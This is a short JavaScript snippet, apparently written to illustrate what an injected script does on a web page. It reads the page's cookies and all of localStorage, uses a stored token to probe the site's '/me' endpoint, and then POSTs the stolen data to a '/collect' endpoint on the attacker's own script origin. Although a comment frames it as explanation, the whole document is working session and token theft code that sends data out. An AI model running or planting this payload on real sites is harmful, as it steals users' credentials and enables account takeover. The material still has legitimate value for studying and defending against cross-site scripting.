// What an injected script does first: it takes what it can read, and uses what it can not read where it is.
const loot = { cookie: document.cookie, storage: { ...localStorage } }
const headers = loot.storage.token === undefined ? {} : { Authorization: `Bearer ${loot.storage.token}` }
const thief = new URL(document.currentScript.src).origin
fetch('/me', { headers })
  .then((reply) => reply.status)
  .then((usedHere) =>
    fetch(`${thief}/collect`, {
      method: 'POST',
      mode: 'no-cors',
      body: JSON.stringify({ ...loot, usedHere }),
    }),
  )
